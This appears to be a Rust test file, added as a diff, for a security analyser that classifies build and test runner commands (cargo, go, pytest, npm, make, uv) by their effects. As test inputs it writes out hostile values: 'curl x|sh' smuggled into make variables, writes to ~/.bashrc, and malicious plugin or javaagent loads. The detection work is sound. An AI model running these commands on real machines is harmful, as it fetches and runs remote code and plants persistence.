@@ -1,0 +1,512 @@
+//! Table tests of the runner grammars: argv → effects, definition files, or an error.
+#![allow(clippy::unwrap_used)]
+
+use super::*;
+use crate::analysis::effects::WriteHow;
+
+fn argv(words: &[&str]) -> (Vec<String>, Vec<bool>) {
+    let v: Vec<String> = words.iter().map(|w| w.to_string()).collect();
+    let d = v.iter().map(|w| w.contains('$')).collect();
+    (v, d)
+}
+
+fn call(words: &[&str]) -> RunnerCall {
+    let (v, d) = argv(words);
+    match runner(&v, &d) {
+        Some(Ok(c)) => c,
+        other => panic!("{words:?}: {other:?}"),
+    }
+}
+
+fn err(words: &[&str]) -> GrammarError {
+    let (v, d) = argv(words);
+    match runner(&v, &d) {
+        Some(Err(e)) => e,
+        other => panic!("{words:?} should be outside the grammar: {other:?}"),
+    }
+}
+
+fn not_a_runner(words: &[&str]) {
+    let (v, d) = argv(words);
+    assert!(runner(&v, &d).is_none(), "{words:?}");
+}
+
+fn writes(c: &RunnerCall) -> Vec<String> {
+    c.effects
+        .iter()
+        .filter_map(|e| match e {
+            Effect::Write { path, .. } => Some(path.clone()),
+            _ => None,
+        })
+        .collect()
+}
+
+fn runs_hidden(c: &RunnerCall) -> bool {
+    c.effects.iter().any(|e| {
+        matches!(
+            e,
+            Effect::Run {
+                code: Code::Hidden { .. }
+            }
+        )
+    })
+}
+
+fn unknown(c: &RunnerCall) -> bool {
+    c.effects.iter().any(Effect::is_unknown)
+}
+
+#[test]
+fn cargo_subcommands_and_their_options() {
+    let c = call(&["cargo", "test", "--lib", "add"]);
+    assert_eq!((c.tool, c.family), ("cargo", Family::Cargo));
+    assert!(c.does.contains("tests"));
+    assert!(c.effects.is_empty());
+    assert!(call(&["cargo", "t", "-p", "x", "--", "--nocapture"])
+        .effects
+        .is_empty());
+    assert!(call(&["cargo", "-q", "build", "--release", "-j", "4"])
+        .effects
+        .is_empty());
+    assert!(call(&["cargo", "clippy", "--fix", "--allow-dirty"])
+        .effects
+        .is_empty());
+    assert!(
+        call(&["cargo", "clippy", "--all-targets", "--", "-D", "warnings"])
+            .effects
+            .is_empty()
+    );
+    assert!(call(&["cargo", "fmt", "--all", "--", "--check"])
+        .effects
+        .is_empty());
+    // Values that are paths or programs.
+    assert_eq!(
+        writes(&call(&["cargo", "test", "--target-dir", "/home/dev"])),
+        ["/home/dev"]
+    );
+    assert_eq!(
+        writes(&call(&["cargo", "build", "--target-dir=t2"])),
+        ["t2"]
+    );
+    assert_eq!(
+        writes(&call(&["cargo", "test", "--", "--logfile", "/x/log"])),
+        ["/x/log"]
+    );
+    assert!(runs_hidden(&call(&["cargo", "--config", "k=v", "test"])));
+    assert!(runs_hidden(&call(&["cargo", "test", "--config=k=v"])));
+    assert!(runs_hidden(&call(&[
+        "cargo",
+        "build",
+        "--target",
+        "./evil.json"
+    ])));
+    assert!(call(&["cargo", "doc", "--open"]).effects.is_empty());
+    assert!(unknown(&call(&["cargo", "-Z", "unstable-options", "test"])));
+    assert_eq!(
+        call(&["cargo", "test", "--manifest-path", "/tmp/x/Cargo.toml"]).defined_by,
+        ["/tmp/x/Cargo.toml"]
+    );
+    // clippy's and rustfmt's own arguments after `--`.
+    assert!(unknown(&call(&[
+        "cargo",
+        "clippy",
+        "--",
+        "-C",
+        "linker=/tmp/x"
+    ])));
+    assert!(unknown(&call(&[
+        "cargo",
+        "fmt",
+        "--",
+        "--config-path",
+        "/tmp/x"
+    ])));
+    // Outside the grammar.
+    assert!(matches!(
+        err(&["cargo", "test", "--frobnicate"]),
+        GrammarError::UnknownOption(_)
+    ));
+    assert!(matches!(
+        err(&["cargo", "build", "extra"]),
+        GrammarError::ExtraOperand(_)
+    ));
+    assert!(matches!(
+        err(&["cargo", "test", "--target-dir"]),
+        GrammarError::MissingValue(_)
+    ));
+    // Not runners: other catalogues judge them.
+    not_a_runner(&["cargo", "publish"]);
+    not_a_runner(&["cargo", "install", "ripgrep"]);
+    not_a_runner(&["cargo"]);
+    // A lockfile fetch.
+    assert!(call(&["cargo", "fetch"]).lock_install);
+}
+
+#[test]
+fn go_flags_before_and_after_packages() {
+    let c = call(&["go", "test", "./...", "-run", "TestX", "-v", "-count=1"]);
+    assert!(c.effects.is_empty(), "{:?}", c.effects);
+    assert_eq!(
+        writes(&call(&[
+            "go",
+            "test",
+            "-coverprofile=/home/dev/.bashrc",
+            "./..."
+        ])),
+        ["/home/dev/.bashrc"]
+    );
+    assert_eq!(
+        writes(&call(&[
+            "go",
+            "test",
+            "-o",
+            "/home/dev/.local/bin/ls",
+            "./..."
+        ])),
+        ["/home/dev/.local/bin/ls"]
+    );
+    assert_eq!(
+        writes(&call(&["go", "test", "--cpuprofile", "cpu.out"])),
+        ["cpu.out"]
+    );
+    assert!(runs_hidden(&call(&[
+        "go",
+        "vet",
+        "-vettool=./t.sh",
+        "./..."
+    ])));
+    assert!(runs_hidden(&call(&[
+        "go", "test", "-exec", "sudo", "./..."
+    ])));
+    assert!(runs_hidden(&call(&["go", "build", "-toolexec", "x", "."])));
+    assert_eq!(
+        call(&["go", "test", "-modfile=/tmp/evil.mod", "./..."]).defined_by,
+        ["/tmp/evil.mod"]
+    );
+    assert!(c.defined_by.is_empty());
+    assert!(call(&["go", "build", "-ldflags", "-s -w -X main.v=1", "."])
+        .effects
+        .is_empty());
+    assert!(unknown(&call(&[
+        "go",
+        "build",
+        "-ldflags=-extld=/tmp/x",
+        "."
+    ])));
+    assert!(unknown(&call(&["go", "build", "-gcflags=all=-N", "."])));
+    // A module fetched by version runs code from the network.
+    assert!(call(&["go", "run", "example.com/x@latest"])
+        .effects
+        .iter()
+        .any(|e| matches!(
+            e,
+            Effect::Run {
+                code: Code::Network { .. }
+            }
+        )));
+    // `go run`: words after the package are the program's own.
+    assert!(call(&["go", "run", ".", "-o", "x"]).effects.is_empty());
+    // -args: the test binary's own profile flags write.
+    assert!(unknown(&call(&[
+        "go",
+        "test",
+        ".",
+        "-args",
+        "-test.coverprofile=x"
+    ])));
+    assert!(call(&["go", "test", ".", "-args", "-myflag"])
+        .effects
+        .is_empty());
+    assert!(matches!(
+        err(&["go", "test", "-frob", "./..."]),
+        GrammarError::UnknownOption(_)
+    ));
+    not_a_runner(&["go", "install", "x@latest"]);
+    not_a_runner(&["go", "get", "x"]);
+}
+
+#[test]
+fn pytest_options_as_argparse_reads_them() {
+    let c = call(&[
+        "pytest",
+        "-xvs",
+        "tests/test_foo.py::test_a",
+        "-k",
+        "not slow",
+    ]);
+    assert!(c.effects.is_empty(), "{:?}", c.effects);
+    assert_eq!(c.test_paths, ["tests/test_foo.py"]);
+    // Abbreviations of long options (pytest before 6.0 accepted them).
+    assert_eq!(
+        writes(&call(&["pytest", "--junitx=/h/.bashrc"])),
+        ["/h/.bashrc"]
+    );
+    assert_eq!(
+        writes(&call(&["pytest", "--junitxml", "out.xml"])),
+        ["out.xml"]
+    );
+    assert_eq!(writes(&call(&["pytest", "-o", "cache_dir=/h/x"])), ["/h/x"]);
+    assert_eq!(
+        writes(&call(&["pytest", "--override-ini=log_file=l"])),
+        ["l"]
+    );
+    assert!(call(&["pytest", "-o", "console_output_style=classic"])
+        .effects
+        .is_empty());
+    assert!(unknown(&call(&["pytest", "-o", "addopts=-p evil"])));
+    assert!(unknown(&call(&["pytest", "-o", "pythonpath=/tmp"])));
+    assert_eq!(
+        writes(&call(&["pytest", "--cov=pkg", "--cov-report=html:/tmp/h"])),
+        ["/tmp/h"]
+    );
+    assert!(call(&["pytest", "--cov=pkg", "--cov-report=term-missing"])
+        .effects
+        .is_empty());
+    // --basetemp empties the directory.
+    assert_eq!(
+        call(&["pytest", "--basetemp=/home/dev"]).effects,
+        vec![Effect::Delete {
+            path: "/home/dev".into(),
+            recursive: true
+        }]
+    );
+    assert!(matches!(
+        call(&["pytest", "--basete", "x"]).effects[0],
+        Effect::Delete { .. }
+    ));
+    // Plugins load code; `no:` disables one.
+    assert!(runs_hidden(&call(&["pytest", "-p", "evil"])));
+    assert!(runs_hidden(&call(&["pytest", "-pevil"])));
+    assert!(call(&["pytest", "-p", "no:cacheprovider"])
+        .effects
+        .is_empty());
+    assert_eq!(
+        call(&["pytest", "-c", "/tmp/evil.ini"]).defined_by,
+        ["/tmp/evil.ini"]
+    );
+    assert_eq!(call(&["pytest", "--rootdir=/tmp/r"]).dirs, ["/tmp/r"]);
+    assert!(unknown(&call(&["pytest", "@args.txt"])));
+    assert!(unknown(&call(&["pytest", "--pastebin=all"])));
+    assert!(unknown(&call(&["pytest", "--tx", "ssh=host"])));
+    assert!(matches!(
+        err(&["pytest", "--frobnicate"]),
+        GrammarError::UnknownOption(_)
+    ));
+    // python -m pytest / unittest.
+    let (v, d) = argv(&["python3", "-m", "pytest", "-q", "--junitxml=/x"]);
+    let c = python_module("pytest", &v, &d, 2).unwrap().unwrap();
+    assert_eq!(
+        (writes(&c), c.module.as_deref()),
+        (vec!["/x".to_string()], Some("pytest"))
+    );
+    let (v, d) = argv(&["python", "-m", "unittest", "discover", "-s", "tests", "-v"]);
+    assert!(python_module("unittest", &v, &d, 2)
+        .unwrap()
+        .unwrap()
+        .effects
+        .is_empty());
+    assert!(python_module("json.tool", &v, &d, 2).is_none());
+}
+
+#[test]
+fn package_manager_scripts_and_their_options() {
+    let c = call(&["npm", "test"]);
+    assert_eq!(c.script, Some((Manager::Npm, "test".to_string())));
+    assert_eq!(
+        call(&["npm", "run", "build", "--if-present"]).script,
+        Some((Manager::Npm, "build".to_string()))
+    );
+    assert!(call(&["npm", "run", "build", "--", "--watch"])
+        .effects
+        .is_empty());
+    assert!(runs_hidden(&call(&[
+        "npm",
+        "test",
+        "--node-options=--import=data:x"
+    ])));
+    assert!(runs_hidden(&call(&[
+        "npm",
+        "run",
+        "x",
+        "--script-shell",
+        "/tmp/sh"
+    ])));
+    assert_eq!(
+        call(&["npm", "--prefix", "/tmp/e", "test"]).dirs,
+        ["/tmp/e"]
+    );
+    // npm's own printer of the environment.
+    assert!(call(&["npm", "run", "env"])
+        .effects
+        .iter()
+        .any(|e| matches!(e, Effect::Secret { .. })));
+    // nopt would resolve an abbreviation against every config key: only exact names.
+    assert!(matches!(
+        err(&["npm", "test", "--node-opt=x"]),
+        GrammarError::UnknownOption(_)
+    ));
+    assert!(matches!(
+        err(&["npm", "test", "--registry=https://x"]),
+        GrammarError::UnknownOption(_)
+    ));
+    assert!(call(&["npm", "ci"]).lock_install);
+    assert!(matches!(
+        err(&["npm", "ci", "--registry=https://x"]),
+        GrammarError::UnknownOption(_)
+    ));
+    not_a_runner(&["npm", "install", "left-pad"]);
+    not_a_runner(&["npm", "list"]);
+    assert_eq!(
+        call(&["pnpm", "--dir", "/tmp/evil", "test"]).dirs,
+        ["/tmp/evil"]
+    );
+    let lint = call(&["pnpm", "lint"]);
+    assert_eq!(lint.script, Some((Manager::Pnpm, "lint".to_string())));
+    assert!(lint.implicit_script);
+    assert!(!call(&["pnpm", "run", "lint"]).implicit_script);
+    assert!(call(&["npm", "run"]).script.is_none());
+    assert_eq!(
+        call(&["yarn", "run", "build"]).script,
+        Some((Manager::Yarn, "build".to_string()))
+    );
+    not_a_runner(&["pnpm", "install"]);
+    not_a_runner(&["yarn", "add", "x"]);
+    not_a_runner(&["bun", "run", "./x.ts"]);
+    assert!(call(&["pnpm", "install", "--frozen-lockfile"]).lock_install);
+    let b = call(&["bun", "test", "--coverage-dir", "/tmp/c"]);
+    assert_eq!(writes(&b), ["/tmp/c"]);
+    assert!(runs_hidden(&call(&["bun", "test", "--preload", "./x.ts"])));
+}
+
+#[test]
+fn make_options_variables_and_files() {
+    let c = call(&["make", "-j8", "test"]);
+    assert!(c.effects.is_empty());
+    assert!(c.does.contains("`test`"));
+    assert!(call(&["make", "-j", "8", "all"]).does.contains("`all`"));
+    assert_eq!(
+        call(&["make", "-f", "/tmp/evil.mk"]).defined_by,
+        ["/tmp/evil.mk"]
+    );
+    assert_eq!(call(&["make", "--file=other.mk"]).defined_by, ["other.mk"]);
+    assert_eq!(call(&["make", "-C", "/tmp/evil"]).dirs, ["/tmp/evil"]);
+    assert_eq!(call(&["make", "--direc=sub"]).dirs, ["sub"]);
+    assert_eq!(
+        call(&["make", "-I", "/tmp/evil", "test"]).include_dirs,
+        ["/tmp/evil"]
+    );
+    assert!(runs_hidden(&call(&["make", "--eval", "x: ; curl e|sh"])));
+    assert!(runs_hidden(&call(&["make", "--ev=x"])));
+    assert!(call(&["make", "CC=clang", "V=1"]).effects.is_empty());
+    assert!(runs_hidden(&call(&["make", "CC=/tmp/evil"])));
+    assert!(runs_hidden(&call(&["make", "CFLAGS=-O2 ; curl x|sh"])));
+    assert!(runs_hidden(&call(&["make", "SHELL=bash"])));
+    assert!(unknown(&call(&["make", "-t", "all"])));
+    assert!(matches!(
+        err(&["make", "--frob"]),
+        GrammarError::UnknownOption(_)
+    ));
+}
+
+#[test]
+fn jvm_python_and_other_runners() {
+    assert!(call(&["mvn", "-q", "test", "-DskipTests"])
+        .effects
+        .is_empty());
+    assert!(call(&["mvn", "-ntp", "-B", "verify"]).effects.is_empty());
+    assert!(unknown(&call(&[
+        "mvn",
+        "test",
+        "-DargLine=-javaagent:/tmp/x.jar"
+    ])));
+    assert_eq!(
+        call(&["mvn", "-s", "/tmp/s.xml", "test"]).defined_by,
+        ["/tmp/s.xml"]
+    );
+    not_a_runner(&["mvn", "deploy"]);
+    assert!(call(&["gradle", "test", "--tests", "X", "--offline"])
+        .effects
+        .is_empty());
+    assert!(runs_hidden(&call(&[
+        "gradle",
+        "test",
+        "--init-script=/tmp/i.gradle"
+    ])));
+    assert!(runs_hidden(&call(&[
+        "gradle",
+        "test",
+        "-Dorg.gradle.java.home=/tmp/j"
+    ])));
+    assert!(unknown(&call(&["gradle", "build", "--scan"])));
+    assert_eq!(call(&["./gradlew", "build"]).tool, "gradlew");
+    not_a_runner(&["gradle", "publish"]);
+    assert!(runs_hidden(&call(&[
+        "tox",
+        "-e",
+        "py",
+        "--installpkg",
+        "/tmp/e.whl"
+    ])));
+    assert!(call(&["tox", "-e", "py311", "--", "-k", "x"])
+        .effects
+        .is_empty());
+    assert_eq!(
+        call(&["tox", "-c", "/tmp/t.ini"]).defined_by,
+        ["/tmp/t.ini"]
+    );
+    assert!(call(&["nox", "-s", "tests"]).effects.is_empty());
+    assert_eq!(call(&["nox", "-f", "/tmp/n.py"]).defined_by, ["/tmp/n.py"]);
+    assert!(call(&["just", "test"]).does.contains("`test`"));
+    assert!(call(&["deno", "test", "src/"]).effects.is_empty());
+    assert!(matches!(
+        err(&["deno", "test", "--allow-all"]),
+        GrammarError::UnknownOption(_)
+    ));
+}
+
+#[test]
+fn project_wrappers_hand_on_their_command() {
+    let c = call(&["uv", "run", "pytest", "-x"]);
+    assert_eq!((c.wrapped, c.family), (Some(2), Family::Uv));
+    assert_eq!(
+        call(&["uv", "run", "--frozen", "--", "python", "x.py"]).wrapped,
+        Some(4)
+    );
+    let m = call(&["uv", "run", "-m", "pytest"]);
+    assert_eq!((m.wrapped, m.module.as_deref()), (Some(3), Some("pytest")));
+    assert!(runs_hidden(&call(&[
+        "uv", "run", "--with", "requests", "ls"
+    ])));
+    assert!(runs_hidden(&call(&[
+        "uv",
+        "run",
+        "--env-file",
+        ".env",
+        "x"
+    ])));
+    assert!(runs_hidden(&call(&[
+        "uv", "run", "--python", "/tmp/py", "x"
+    ])));
+    assert!(call(&["uv", "run", "--python", "3.11", "ls"])
+        .effects
+        .is_empty());
+    assert_eq!(
+        call(&["uv", "run", "--directory", "/tmp/d", "x"]).dirs,
+        ["/tmp/d"]
+    );
+    assert!(matches!(
+        err(&["uv", "run", "--frobnicate", "x"]),
+        GrammarError::UnknownOption(_)
+    ));
+    assert!(call(&["uv", "sync", "--locked"]).lock_install);
+    not_a_runner(&["uv", "sync"]);
+    not_a_runner(&["uv", "pip", "install", "x"]);
+    assert_eq!(call(&["poetry", "run", "pytest"]).wrapped, Some(2));
+    assert_eq!(call(&["pipenv", "run", "--", "pytest"]).wrapped, Some(3));
+    assert!(matches!(
+        err(&["pdm", "run", "-v", "x"]),
+        GrammarError::UnknownOption(_)
+    ));
+    not_a_runner(&["poetry", "add", "x"]);
+    let _ = WriteHow::Replace;
+}
